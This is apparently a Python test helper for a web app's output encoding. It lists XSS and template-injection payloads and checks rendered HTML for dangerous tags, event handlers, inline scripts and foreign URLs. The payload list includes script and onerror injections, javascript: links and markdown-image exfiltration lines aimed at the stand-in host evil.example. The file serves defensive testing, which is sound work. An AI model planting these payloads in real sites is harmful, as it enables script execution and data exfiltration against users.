"""What must never be more than words on a page, and how a page is looked at for it."""

# ruff: noqa: E501 - a text a line
import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from selectolax.lexbor import LexborHTMLParser, LexborNode

ROOT = Path(__file__).resolve().parents[2]
FOLDER = Path(os.environ.get("COUNTERSIGN_SECURITY_DIR") or ROOT.parent / "shared" / "security")
KINDS = {"stored-xss", "output-encoding"}

OWN = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=//evil.example>",
    "\"><script src=https://evil.example/x.js></script>", "' onmouseover='alert(1)", "</title><script>alert(1)</script>",
    "</textarea><script>1</script>", "--><script>1</script>", "]]><script>1</script>", "<style>*{display:none}</style>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>Sign in</button></form>", "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))", "![x](https://evil.example/p.png?d=DZ-10001)", "![x][y]\n\n[y]: https://evil.example/p.png",
    "<object data=https://evil.example></object>", "<math><mtext></form><img src=x onerror=alert(1)>", "&lt;script&gt;1",
    "{{ settings.SECRET_KEY }}{% load static %}{% debug %}", "{0.__class__.__mro__} %(password)s ${7*7}", "<details open ontoggle=alert(1)>",
]  # fmt: skip

URLS = ("href", "src", "action", "formaction", "data", "poster", "srcset", "background", "ping", "xlink:href", "cite")
NEVER = {
    "iframe",
    "object",
    "embed",
    "base",
    "applet",
    "frame",
    "frameset",
    "portal",
    "style",
    "foreignobject",
    "animate",
}


def hostile_words() -> list[str]:
    """Our own, and those of the corpus where it is there."""
    path = FOLDER / "injections.jsonl"
    lines = path.read_text(encoding="utf-8").strip().split("\n") if path.is_file() else []
    entries = [entry for entry in map(json.loads, lines) if "text" in entry]
    wanted = [e["text"] for e in entries if e["goal"] in KINDS or e["kind"] == "markdown-image-exfil"]
    return [*OWN, *wanted]


def faults(html: str) -> Iterator[str]:
    """What on the page could act, fetch or lead astray, and that no template of ours has."""
    for node in LexborHTMLParser(html).css("*"):
        attributes = node.attributes
        if node.tag in NEVER or (node.tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh"):
            yield f"<{node.tag}>"
        yield from (f"<{node.tag} {name}>" for name in attributes if name.startswith("on") or name == "srcdoc")
        if node.tag == "script" and not attributes.get("src") and "json" not in (attributes.get("type") or ""):
            yield "a script in the page"
        yield from _bad_addresses(node, attributes)


def _bad_addresses(node: LexborNode, attributes: dict[str, Any]) -> Iterator[str]:
    for name in URLS:
        url = (attributes.get(name) or "").strip()
        is_own = url.startswith(("/", "#", "?")) and not url.startswith(("//", "/\\"))
        is_link = node.tag == "a" and name == "href" and url.startswith(("https://", "http://", "mailto:"))
        is_relative = url and ":" not in url and "//" not in url and "\\" not in url  # the admin's ../
        if url and not (is_own or is_link or is_relative):
            yield f"<{node.tag} {name}={url[:60]}>"
